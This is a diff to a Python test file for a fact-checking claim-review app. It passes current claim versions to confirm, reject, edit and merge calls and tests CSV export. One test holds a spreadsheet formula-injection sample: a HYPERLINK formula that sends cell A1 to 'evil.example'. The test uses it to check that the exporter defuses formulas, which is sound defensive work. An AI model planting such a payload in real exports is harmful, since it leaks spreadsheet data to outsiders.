@@ -52,8 +52,13 @@ def only_in(story: Story, **article_filter: Any) -> Claim:
     return claim
 
 
+def current(claim: Claim) -> int:
+    """The claim's version now, as a page loaded at this moment would send it."""
+    return Claim.objects.values_list("version", flat=True).get(pk=claim.pk)
+
+
 def confirm_and_rate(claim: Claim, user: User, *labels: str) -> list[Annotation]:
-    review.claim_confirm(claim_id=claim.pk, user=user, version=None)
+    review.claim_confirm(claim_id=claim.pk, user=user, version=current(claim))
     return [
         review.claim_annotate(
             claim_id=claim.pk, user=user, note=f"Checked: {label}", label=label, links=["https://example.org/evidence"]
@@ -102,8 +107,15 @@ def test_csv_rows_are_the_claims_in_the_database(processed_story: Story, reviewe
     confirmed, rejected, survivor, merged = claims[0], claims[1], claims[2], claims[3]
     confirm_and_rate(confirmed, reviewer, "misleading", "inaccurate")
     review.claim_annotate(claim_id=confirmed.pk, user=reviewer, note="A later note without a verdict")
-    review.claim_reject(claim_id=rejected.pk, user=reviewer, version=None, reason="Opinion, not a checkable fact")
-    review.claims_merge(survivor_id=survivor.pk, other_ids=[merged.pk], user=reviewer)
+    review.claim_reject(
+        claim_id=rejected.pk, user=reviewer, version=current(rejected), reason="Opinion, not a checkable fact"
+    )
+    review.claims_merge(
+        survivor_id=survivor.pk,
+        other_ids=[merged.pk],
+        user=reviewer,
+        versions={survivor.pk: current(survivor), merged.pk: current(merged)},
+    )
 
     lines = list(claims_csv(processed_story))
     assert all(line.endswith("\r\n") for line in lines)
@@ -131,7 +143,12 @@ def test_csv_rows_are_the_claims_in_the_database(processed_story: Story, reviewe
 
 def test_csv_includes_merged_claims_only_when_asked(processed_story: Story, reviewer: User) -> None:
     survivor, merged = by_articles(processed_story)[:2]
-    review.claims_merge(survivor_id=survivor.pk, other_ids=[merged.pk], user=reviewer)
+    review.claims_merge(
+        survivor_id=survivor.pk,
+        other_ids=[merged.pk],
+        user=reviewer,
+        versions={survivor.pk: current(survivor), merged.pk: current(merged)},
+    )
 
     _, *rows = parse(claims_csv(processed_story, statuses=["merged"]))
     assert [row[:2] for row in rows] == [[str(merged.pk), "merged"]]
@@ -157,8 +174,8 @@ def test_other_cells_are_left_alone(value: str) -> None:
 def test_csv_defuses_formulas_in_text_fields_and_keeps_numbers(processed_story: Story, reviewer: User) -> None:
     formula, rejected = by_articles(processed_story)[:2]
     text = '=HYPERLINK("https://evil.example/?leak="&A1,"Click for the source")'
-    review.claim_edit(claim_id=formula.pk, user=reviewer, version=None, text=text)
-    review.claim_reject(claim_id=rejected.pk, user=reviewer, version=None, reason="-2+3 is not a reason")
+    review.claim_edit(claim_id=formula.pk, user=reviewer, version=current(formula), text=text)
+    review.claim_reject(claim_id=rejected.pk, user=reviewer, version=current(rejected), reason="-2+3 is not a reason")
     reviewer.username = "@rita"
     reviewer.save(update_fields=["username"])
 
@@ -182,7 +199,7 @@ def test_csv_queries_do_not_grow_with_the_claims(
     claims = by_articles(processed_story)
     for claim in claims[:5]:
         confirm_and_rate(claim, reviewer, "accurate")
-    review.claim_reject(claim_id=claims[5].pk, user=reviewer, version=None, reason="Not a fact")
+    review.claim_reject(claim_id=claims[5].pk, user=reviewer, version=current(claims[5]), reason="Not a fact")
     everything = Claim.objects.filter(story=processed_story).exclude(status=Claim.Status.MERGED).count()
     assert everything > 20
 
@@ -277,11 +294,13 @@ def test_only_confirmed_claims_with_a_verdict_are_reviewed(processed_story: Stor
     confirm_and_rate(rated, reviewer, "misleading", "inaccurate")
     review.claim_annotate(claim_id=rated.pk, user=reviewer, note="A later note without a verdict")
     confirm_and_rate(renamed, reviewer, "accurate")
-    review.claim_edit(claim_id=renamed.pk, user=reviewer, version=None, text="A reworded claim, as reviewed")
-    review.claim_confirm(claim_id=unlabelled.pk, user=reviewer, version=None)
+    review.claim_edit(
+        claim_id=renamed.pk, user=reviewer, version=current(renamed), text="A reworded claim, as reviewed"
+    )
+    review.claim_confirm(claim_id=unlabelled.pk, user=reviewer, version=current(unlabelled))
     review.claim_annotate(claim_id=unlabelled.pk, user=reviewer, note="No verdict yet")
     review.claim_annotate(claim_id=proposed.pk, user=reviewer, note="Looks wrong", label="inaccurate")
-    review.claim_reject(claim_id=rejected.pk, user=reviewer, version=None, reason="Not a fact")
+    review.claim_reject(claim_id=rejected.pk, user=reviewer, version=current(rejected), reason="Not a fact")
     review.claim_annotate(claim_id=rejected.pk, user=reviewer, note="Still wrong", label="inaccurate")
 
     items = reviews_by_id(processed_story, base_url=BASE_URL, publisher_name="The Desk")
